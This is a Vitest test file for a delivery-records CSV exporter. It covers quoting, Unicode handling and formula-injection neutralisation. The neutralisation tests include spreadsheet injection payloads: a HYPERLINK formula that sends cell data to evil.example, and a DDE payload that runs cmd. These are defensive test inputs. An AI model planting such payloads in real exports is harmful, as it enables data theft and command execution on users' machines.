import { describe, expect, it } from 'vitest';
import type { Delivery } from '../../../src/api/types';
import { neutraliseFormula, quoteCsvField } from '../../../src/export/csvField';
import { toDeliveriesCsv, type DeliveryExportColumn } from '../../../src/export/toDeliveriesCsv';
import { parseCsv } from './parseCsv';

const delivery = (patch: Partial<Delivery> = {}): Delivery => ({
  code: 'DLV-2026-004711',
  tenantName: 'Northwind',
  courierCode: 'DHL',
  warehouseName: 'Berlin Nord',
  customerBusinessPartnerName: 'Acme GmbH',
  duQty: 12,
  palletQty: 2,
  status: 4,
  insertTime: '2026-11-02T08:30:00.000Z',
  ...patch,
});

const allColumns: DeliveryExportColumn[] = [
  { id: 'code', label: 'Code' },
  { id: 'tenantName', label: 'Tenant' },
  { id: 'courierCode', label: 'Courier' },
  { id: 'warehouseName', label: 'Warehouse' },
  { id: 'customerBusinessPartnerName', label: 'Customer' },
  { id: 'duQty', label: 'DU qty' },
  { id: 'palletQty', label: 'Pallets' },
  { id: 'status', label: 'Status' },
  { id: 'insertTime', label: 'Inserted' },
];
const customer: DeliveryExportColumn[] = [
  { id: 'code', label: 'Code' },
  { id: 'customerBusinessPartnerName', label: 'Customer' },
];
const statusOptions = [
  { value: 4, label: 'Delivered', tone: 'success' as const },
  { value: 9, label: 'Cancelled' },
];

/** The customer cell of a one-row file, as written and as a spreadsheet reads it back. */
function customerCell(name: string): { written: string; read: string } {
  const csv = toDeliveriesCsv([delivery({ customerBusinessPartnerName: name })], customer);
  const written = csv.slice(csv.indexOf('\r\n') + 2 + 'DLV-2026-004711,'.length, -2);
  return { written, read: parseCsv(csv)[1]![1]! };
}

describe('toDeliveriesCsv: the file layout (RFC 4180)', () => {
  it('writes a header row of the labels, one row per delivery in order, CRLF after every line', () => {
    const csv = toDeliveriesCsv(
      [delivery(), delivery({ code: 'DLV-2026-004712', duQty: 3 })],
      allColumns,
      { statusOptions },
    );
    expect(csv).toBe(
      'Code,Tenant,Courier,Warehouse,Customer,DU qty,Pallets,Status,Inserted\r\n' +
        'DLV-2026-004711,Northwind,DHL,Berlin Nord,Acme GmbH,12,2,Delivered,2026-11-02T08:30:00.000Z\r\n' +
        'DLV-2026-004712,Northwind,DHL,Berlin Nord,Acme GmbH,3,2,Delivered,2026-11-02T08:30:00.000Z\r\n',
    );
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('writes the header row alone for no deliveries, and nothing at all for no columns', () => {
    expect(toDeliveriesCsv([], customer)).toBe('Code,Customer\r\n');
    expect(parseCsv(toDeliveriesCsv([], customer))).toEqual([['Code', 'Customer']]);
    expect(toDeliveriesCsv([], [])).toBe('\r\n');
  });

  it('carries no byte order mark: that is the file step', () => {
    expect(toDeliveriesCsv([delivery()], customer).charCodeAt(0)).toBe('C'.charCodeAt(0));
  });

  it.each([
    ['a comma', 'Müller, Hafen', '"Müller, Hafen"'],
    ['quotes, doubled', 'Acme "Nord" GmbH', '"Acme ""Nord"" GmbH"'],
    ['a line feed', 'Line 1\nLine 2', '"Line 1\nLine 2"'],
    ['a carriage return inside', 'A\rB', '"A\rB"'],
    ['CRLF', 'A\r\nB', '"A\r\nB"'],
    ['a lone quote', '"', '""""'],
  ])('quotes a field holding %s', (_, name, written) => {
    expect(customerCell(name)).toEqual({ written, read: name });
  });

  it('leaves plain fields unquoted, spaces and semicolons included', () => {
    expect(customerCell(' Acme; Nord ')).toEqual({ written: ' Acme; Nord ', read: ' Acme; Nord ' });
  });

  it.each([
    ['accents and umlauts', 'Bäckerei Müller & Söhne'],
    ['right-to-left text', 'شركة التوصيل'],
    ['CJK', '東京物流株式会社'],
    ['emoji (astral plane)', 'Fast 🚚💨 Ltd'],
    ['combining marks', 'Cafe\u0301'],
  ])('keeps %s exactly', (_, name) => {
    expect(customerCell(name)).toEqual({ written: name, read: name });
  });

  it('labels header cells with text, quoted and neutralised like any cell', () => {
    const csv = toDeliveriesCsv(
      [],
      [
        { id: 'code', label: 'Code, "primary"' },
        { id: 'duQty', label: '-Qty' },
      ],
    );
    expect(csv).toBe('"Code, ""primary""",\'-Qty\r\n');
  });
});

describe('toDeliveriesCsv: values', () => {
  it('writes numbers plain: no grouping, "." as decimal point, negatives as numbers', () => {
    const columns = [
      { id: 'duQty', label: 'DU qty' },
      { id: 'palletQty', label: 'Pallets' },
      { id: 'weight', label: 'Weight' },
    ];
    const csv = toDeliveriesCsv(
      [delivery({ duQty: 1234567, palletQty: -2, weight: 1234.5 })],
      columns,
    );
    expect(parseCsv(csv)[1]).toEqual(['1234567', '-2', '1234.5']);
  });

  it('writes insertTime as the instant the server sent, untouched by any time zone', () => {
    const csv = toDeliveriesCsv(
      [delivery({ insertTime: '2026-03-29T01:30:00Z' })],
      [{ id: 'insertTime', label: 'Inserted' }],
    );
    expect(parseCsv(csv)[1]).toEqual(['2026-03-29T01:30:00Z']);
  });

  it('writes a status as its label when statusOptions name it, else as its number', () => {
    const csv = toDeliveriesCsv(
      [delivery({ status: 4 }), delivery({ status: 9 }), delivery({ status: 7 })],
      [{ id: 'status', label: 'Status' }],
      { statusOptions },
    );
    expect(parseCsv(csv).slice(1)).toEqual([['Delivered'], ['Cancelled'], ['7']]);
    expect(parseCsv(toDeliveriesCsv([delivery()], [{ id: 'status', label: 'Status' }]))[1]).toEqual(
      ['4'],
    );
  });

  it('neutralises a status label that reads as a formula', () => {
    const csv = toDeliveriesCsv([delivery({ status: 1 })], [{ id: 'status', label: 'Status' }], {
      statusOptions: [{ value: 1, label: '=1+1' }],
    });
    expect(parseCsv(csv)[1]).toEqual(["'=1+1"]);
  });

  it('writes fields beyond the contract as their primitive value, anything else empty', () => {
    const extra = delivery({
      region: 'North',
      fragile: true,
      insured: false,
      count: 0,
      note: null,
      tags: ['fragile', 'cold-chain'],
      address: { city: 'Bremen' },
    });
    const columns = [
      'region',
      'fragile',
      'insured',
      'count',
      'note',
      'tags',
      'address',
      'missing',
    ].map((id) => ({ id, label: id }));
    expect(parseCsv(toDeliveriesCsv([extra], columns))[1]).toEqual([
      'North',
      'true',
      'false',
      '0',
      '',
      '',
      '',
      '',
    ]);
  });

  it('keeps an empty string empty', () => {
    expect(customerCell('')).toEqual({ written: '', read: '' });
  });
});

describe('toDeliveriesCsv: formula neutralisation (OWASP)', () => {
  it.each([
    ['=HYPERLINK(...)', '=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
    ['a leading +', '+1'],
    ['a leading -', '-2+3'],
    ['a leading @', '@SUM(A1:A9)'],
    ['a leading tab', '\t=1+1'],
    ['a leading carriage return', '\r=1+1'],
    ['DDE', "=cmd|' /C calc'!A0"],
  ])('prefixes %s with a quote', (_, name) => {
    const { read } = customerCell(name);
    expect(read).toBe(`'${name}`);
  });

  it('quotes a neutralised cell when it also needs quoting', () => {
    expect(customerCell('=HYPERLINK("x","y")').written).toBe('"\'=HYPERLINK(""x"",""y"")"');
  });

  it.each([
    ['a formula character later on', 'Acme = Nord'],
    ['a leading space', ' =1+1'],
    ['a leading quote', "'quoted"],
    ['a leading digit', '1+1'],
  ])('leaves text with %s alone', (_, name) => {
    expect(customerCell(name).read).toBe(name);
  });

  it('neutralises every text column: codes, names, extra fields', () => {
    const csv = toDeliveriesCsv(
      [delivery({ code: '-DLV', tenantName: '@tenant', region: '+49' })],
      [
        { id: 'code', label: 'Code' },
        { id: 'tenantName', label: 'Tenant' },
        { id: 'region', label: 'Region' },
      ],
    );
    expect(parseCsv(csv)[1]).toEqual(["'-DLV", "'@tenant", "'+49"]);
  });
});

describe('neutraliseFormula and quoteCsvField', () => {
  it('neutralises exactly = + - @ tab and CR at the start', () => {
    const starts = ['=', '+', '-', '@', '\t', '\r'];
    for (const start of starts) expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
    for (const start of ['a', '1', ' ', '\n', "'", '#', '']) {
      expect(neutraliseFormula(`${start}x`)).toBe(`${start}x`);
    }
    expect(neutraliseFormula('')).toBe('');
  });

  it('quotes only for ", comma, CR and LF', () => {
    expect(quoteCsvField('a;b\tc')).toBe('a;b\tc');
    expect(quoteCsvField('a"b')).toBe('"a""b"');
  });
});
